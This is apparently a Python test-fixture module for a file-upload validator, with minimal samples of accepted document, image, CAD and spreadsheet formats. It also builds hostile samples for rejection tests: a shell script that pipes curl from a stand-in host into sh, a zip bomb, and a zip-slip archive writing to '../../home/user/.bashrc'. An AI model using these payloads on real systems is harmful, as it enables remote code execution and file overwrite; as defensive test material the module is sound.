"""Files for the document tests: one of each accepted kind, and the hostile ones."""

from __future__ import annotations

import io
import zipfile

PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 40
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 40
TIFF = b"II*\x00\x08\x00\x00\x00" + b"\x00" * 40
GIF = b"GIF89a" + b"\x00" * 40
WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 " + b"\x00" * 40
DXF = b"  0\r\nSECTION\r\n  2\r\nHEADER\r\n  0\r\nENDSEC\r\n  0\r\nEOF\r\n"
DWG = b"AC1032\x00\x00\x00\x00\x00" + b"\x00" * 40
STEP = b"ISO-10303-21;\nHEADER;\nFILE_DESCRIPTION(('flange'),'2;1');\nENDSEC;\n"
IGES = ("Flange drawing exported for the RFQ".ljust(72) + "S      1\n"
        + "1H,,1H;,6Hflange".ljust(72) + "G      1\n").encode()
XLS = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 200 + "Workbook".encode("utf-16-le")
CSV = b"part,quantity,material\nflange,120,S355\nbolt,960,8.8\n"
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


def zipped(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


ZIP = zipped({"drawings/flange.pdf": PDF, "drawings/bolt.step": STEP})
XLSX = zipped({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"})
ODS = zipped({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
              "content.xml": b"<office:document-content/>"})
ZIP_BOMB = zipped({"zeros.bin": b"\x00" * (40 * 1024 * 1024)})
ZIP_SLIP = zipped({"../../home/user/.bashrc": b"echo owned\n"})

ACCEPTED = {  # name sent -> (content, media type, name kept)
    "drawing.pdf": (PDF, "application/pdf", "drawing.pdf"),
    "photo.png": (PNG, "image/png", "photo.png"),
    "photo.JPG": (JPEG, "image/jpeg", "photo.jpg"),
    "scan.tif": (TIFF, "image/tiff", "scan.tif"),
    "anim.gif": (GIF, "image/gif", "anim.gif"),
    "pic.webp": (WEBP, "image/webp", "pic.webp"),
    "plan.dxf": (DXF, "image/vnd.dxf", "plan.dxf"),
    "plan.dwg": (DWG, "image/vnd.dwg", "plan.dwg"),
    "flange.stp": (STEP, "model/step", "flange.stp"),
    "flange.igs": (IGES, "model/iges", "flange.igs"),
    "bom.xlsx": (XLSX, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                 "bom.xlsx"),
    "bom.xls": (XLS, "application/vnd.ms-excel", "bom.xls"),
    "bom.ods": (ODS, "application/vnd.oasis.opendocument.spreadsheet", "bom.ods"),
    "bom.csv": (CSV, "text/csv", "bom.csv"),
    "all.zip": (ZIP, "application/zip", "all.zip"),
}
